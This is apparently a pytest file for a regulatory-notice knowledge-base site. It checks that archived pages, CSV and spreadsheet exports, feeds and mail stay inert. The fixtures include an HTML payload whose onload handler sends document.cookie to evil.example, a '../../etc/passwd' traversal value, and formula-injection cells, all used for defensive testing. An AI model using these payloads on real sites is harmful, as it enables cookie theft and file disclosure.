"""What is taken away from the site (spreadsheets, CSV, feeds, pages of the archive) acts nowhere."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import shutil
import sqlite3
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any
from urllib.parse import quote

import feedparser
import pytest
import yaml
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from kb.digest import message
from kb.feeds import watch_items
from kb.notify import match
from kb.paths import METADATA
from kb.serve import datasette
from kb.spreadsheet import inert, workbook
from kb.store import open_db
from kb.watches import add_watch
from kb.web.rawpage import LARGEST, SANDBOX
from kb.web.tabular import InertCsv
from scrapers.archive import Archive

from .visiting import Place

Get = Callable[..., Any]
QUERIES: dict[str, Any] = yaml.safe_load(METADATA.read_text(encoding="utf-8"))["databases"]["kb"]["queries"]
HIDDEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
HOSTILE = b"""<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="fetch('https://evil.example/'+document.cookie)"><script>alert(1)</script>\xe8\xa7\x84\xe5\x88\x99</body></html>"""


@pytest.fixture(scope="module")
def place(coming_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the demo with an archive beside it, and a watch that has matched."""
    folder = tmp_path_factory.mktemp("site")
    path = Path(shutil.copy(coming_db, folder))
    archive = Archive(folder / "kb-archive", writable=True)
    page = archive.add(url="https://rules.example/a", body=HOSTILE, fetched_at="2026-11-24T00:00:00Z",
                       headers={"Content-Type": "text/html; charset=utf-8", "Set-Cookie": "a=b"})
    old = archive.add(url="https://rules.example/b", body="规则".encode("gb18030"), fetched_at="2026-11-24T00:00:00Z",
                      headers={"Content-Type": "text/html; charset=gb2312"})
    held = archive.add(url="https://rules.example/c", body=HOSTILE, fetched_at="2026-11-24T00:00:01Z",
                       headers={"Content-Type": "text/html"})
    pdf = archive.add(url="https://rules.example/d.pdf", body=b"%PDF-1.7 <script>", fetched_at="2026-11-24T00:00:00Z",
                      headers={"Content-Type": "application/pdf"})
    large = archive.add(url="https://rules.example/e", body=b"a" * (LARGEST + 1), fetched_at="2026-11-24T00:00:00Z",
                        headers={"Content-Type": "text/plain"})
    archive.close()
    db = open_db(path)
    ids = [r[0] for r in db.execute("SELECT id FROM notices WHERE id LIKE 'yz-%' ORDER BY id LIMIT 6")]
    for notice, record in zip(ids, (page.place, old.place, held.place, pdf.place, large.place, "../../etc/passwd.warc.gz#0"), strict=True):
        db.execute("UPDATE _versions SET archive = ? WHERE notice_id = ?", [record, notice])
    (folder / "ids").write_text("\n".join(ids), encoding="utf-8")
    add_watch(db, name="借呗 <b>", at="2020-01-01T00:00:00Z", product="jiebei", owner="Bo", reason="we sell it")
    add_watch(db, name="hostile", at="2020-01-01T00:00:00Z", words="瓜蓬分期")
    match(db, at="2026-11-25T00:00:00Z")
    db.conn.close()
    return path


@pytest.fixture(scope="module")
def get(place: Path) -> Get:
    return Place(place).get


def test_a_page_of_the_archive_is_text_in_a_sandbox(get: Get, place: Path) -> None:
    html, old, held, pdf, large, wrong = (place.parent / "ids").read_text(encoding="utf-8").split("\n")
    answer = get(f"/raw/{html}")
    assert answer.status_code == 200 and answer.content == HOSTILE
    assert answer.headers["content-type"] == "text/plain; charset=utf-8"
    assert answer.headers["content-security-policy"] == SANDBOX and answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["x-frame-options"] == "DENY" and "set-cookie" not in answer.headers
    assert get(f"/raw/{old}").headers["content-type"] == "text/plain; charset=gb18030"
    assert get(f"/raw/{held}").content == HOSTILE  # its bytes were stored with the first
    answer = get(f"/raw/{pdf}")
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-disposition"].startswith("attachment;") and answer.headers["content-security-policy"] == SANDBOX
    for missing in (large, wrong, "nope", "bad-zh-script-title"):
        assert get(f"/raw/{missing}").status_code == 404, missing
    assert get(f"/raw/{html}?version=9").status_code == 404
    page = BeautifulSoup(get(f"/notice/{html}").text, "lxml")
    assert page.find("a", href=f"/raw/{html}")
    assert not BeautifulSoup(get(f"/notice/{wrong}").text, "lxml").find("a", href=f"/raw/{wrong}")


def formulas(content: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(content))
    return [cell.value for sheet in book for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")))]


@pytest.mark.parametrize("path", ["/kb/notices.xlsx?_size=max", "/kb/suspension_risks.xlsx", "/kb/issues.xlsx", "/kb/notices/bad-en-formula-title.xlsx",
                                  "/kb.xlsx?sql=select+'=1%2B1'+as+a%2C+2+as+b", *(f"/kb/{q}.xlsx" for q in QUERIES)])
def test_every_table_is_a_spreadsheet_without_formulas(get: Get, path: str) -> None:
    answer = get(path)
    assert answer.status_code == 200 and answer.headers["content-disposition"].startswith("attachment")
    assert formulas(answer.content) == []
    assert load_workbook(io.BytesIO(answer.content)).worksheets[0].max_row >= 2


def test_csv_is_disarmed_as_it_streams(get: Get) -> None:
    for path in ("/kb/notices.csv?_stream=on&_labels=on", "/kb/what_could_suspend.csv?product=jiebei", "/kb.csv?sql=select+'=1%2B1'+as+a%2C+-2+as+b"):
        rows = list(csv.reader(io.StringIO(get(path).text)))
        assert len(rows) > 1
        for cell in (c for row in rows for c in row):
            assert not HIDDEN.search(cell)
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    assert rows[1] == ["'=1+1", "-2"]
    titles = [r[4] for r in csv.reader(io.StringIO(get("/kb/notices.csv?_stream=on").text))]
    assert any(t.startswith("'@SUM") for t in titles)


@given(st.lists(st.lists(st.text(alphabet="=a,\"\n\r甲-1\u202e", max_size=8), min_size=2, max_size=3), min_size=1, max_size=6),
       st.lists(st.integers(1, 40), max_size=8))
def test_csv_in_any_pieces_gives_the_same_cells(rows: list[list[str]], cuts: list[int]) -> None:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    data = out.getvalue().encode()
    rewriter, got, at = InertCsv(), b"", 0
    for cut in cuts:
        got += rewriter.feed(data[at : at + cut], last=False)
        at += cut
    got += rewriter.feed(data[at:], last=True)
    whole = InertCsv().feed(data, last=True)
    assert list(csv.reader(io.StringIO(got.decode(), newline=""))) == list(csv.reader(io.StringIO(whole.decode(), newline="")))
    for row in csv.reader(io.StringIO(got.decode(), newline="")):
        assert not any(c.startswith("=") or HIDDEN.search(c) for c in row)


@pytest.mark.parametrize(("text", "cell"), [("=1", "'=1"), ("-5.2", "-5.2"), ("+1e3", "+1e3"), ("-a", "'-a"), ("甲", "甲"), ("@x", "'@x"), ("-", "'-")])
def test_numbers_stay_numbers(text: str, cell: str) -> None:
    assert inert(text) == cell


def test_a_sheet_of_many_columns_and_a_bad_name() -> None:
    book = load_workbook(io.BytesIO(workbook([("a/b:c", [(f"c{n}", 8) for n in range(60)], [list(range(60))])])))
    assert book.sheetnames == ["a b c"] and book.worksheets[0].max_column == 60


@pytest.mark.parametrize("name", list(QUERIES))
def test_every_question_is_a_feed(get: Get, name: str) -> None:
    answer = get(f"/kb/{name}.atom")
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("application/atom+xml")
    feed = feedparser.parse(answer.content)
    assert not feed.bozo and feed.entries and len({e.id for e in feed.entries}) == len(feed.entries)
    for entry in feed.entries:
        assert entry.link.startswith("http://localhost/") and entry.title.strip() and not HIDDEN.search(entry.title)
        assert entry.content[0].type == "text/plain" and re.match(r"\d{4}-\d\d-\d\dT", entry.updated)
    again = feedparser.parse(get(f"/kb/{name}.atom").content)
    assert [e.id for e in again.entries] == [e.id for e in feed.entries]


def test_a_watch_has_its_feed(get: Get, place: Path) -> None:
    feed = feedparser.parse(get("/feed/watch/1.atom").content)
    assert not feed.bozo and feed.entries and "借呗 <b> · Bo · we sell it" in feed.feed.title
    assert all(e.link.startswith("http://localhost/notice/") for e in feed.entries)
    assert get("/feed/watch/99.atom").status_code == 404


def test_hostile_notices_are_inert_in_feeds_and_mail(get: Get, place: Path) -> None:
    body = get("/feed/watch/2.atom").text
    assert "<script" not in body and not HIDDEN.search(body)
    with closing(sqlite3.connect(place)) as conn:
        items = watch_items(conn, "hostile", base_url="https://kb.example")
    assert any("<script>" in i.title for i in items)
    told = message(items, watch="w", owner=None, reason="<i>", language="zh", at="2026-11-25T00:00:00Z")
    soup = BeautifulSoup(told.html, "lxml")
    assert not soup.find_all(["script", "img", "svg", "iframe"]) and not HIDDEN.search(told.html + told.text)
    assert {str(a["href"]).partition(":")[0] for a in soup.find_all("a")} <= {"https"}


def test_a_row_leads_to_its_notice_page(get: Get) -> None:
    soup = BeautifulSoup(get("/kb/notices/" + quote("yz-banfa-2026-901") + "?lang=en").text, "lxml")
    assert soup.find("a", href="/notice/yz-banfa-2026-901")


def test_the_language_link_is_no_filter(get: Get) -> None:
    rows = {lang: get(f"/kb/suspension_risks?lang={lang}").text.count("<tr>") for lang in ("zh", "en")}
    assert rows["zh"] == rows["en"] > 10


@pytest.mark.parametrize("path", ["/", "/product/jiebei", "/notice/yz-banfa-2026-901", "/calendar", "/obligations", "/enforcement", "/sources",
                                  "/compare", "/search?q=suspend"])
def test_behind_every_table_and_chart_is_its_sql(get: Get, path: str) -> None:
    soup = BeautifulSoup(get(path).text, "lxml").main
    shown = soup.select("figure.chart, table.list, ol.feed, ol.hits, .paths, .causes, ul.tiles")
    links = {str(a["href"]) for a in soup.select("a.sql")}
    assert links or path == "/compare"
    for thing in shown:
        around = thing if thing.name == "figure" else thing.find_parent("section", attrs={"aria-labelledby": True})
        around = around if around is not None and around.select("a.sql") else thing.find_parent(["section", "main"])
        while around is not None and not around.select("a.sql") and around.name != "main":
            around = around.find_parent(["section", "main"])
        assert around is not None and around.select("a.sql"), thing
    for link in links:
        assert get(link).status_code == 200, link


def test_the_notebook_of_the_docs_runs(demo_db: Path) -> None:
    """The Python of docs/analysts.md, block by block in one notebook; pandas where it is installed."""
    page = (METADATA.parent / "docs" / "analysts.md").read_text(encoding="utf-8")
    cells = re.findall(r"^```python\n(.*?)^```$", page, re.MULTILINE | re.DOTALL)
    assert len(cells) == 4
    notebook: dict[str, Any] = {}
    for cell in cells:
        try:
            exec(cell.replace("file:kb.db", f"file:{demo_db}"), notebook)
        except ModuleNotFoundError as error:
            assert error.name == "pandas"
    assert notebook["risks"] is not None and notebook["found"]
    notebook["conn"].close()


def test_a_program_asks_over_mcp(get: Get, place: Path) -> None:
    pytest.importorskip("datasette_mcp", reason="the extra [mcp] is not installed")
    site = datasette(place, metadata=METADATA)

    async def ask() -> Any:
        await site.invoke_startup()
        return await site.client.get("/-/plugins.json")

    assert "datasette-mcp" in asyncio.run(ask()).text
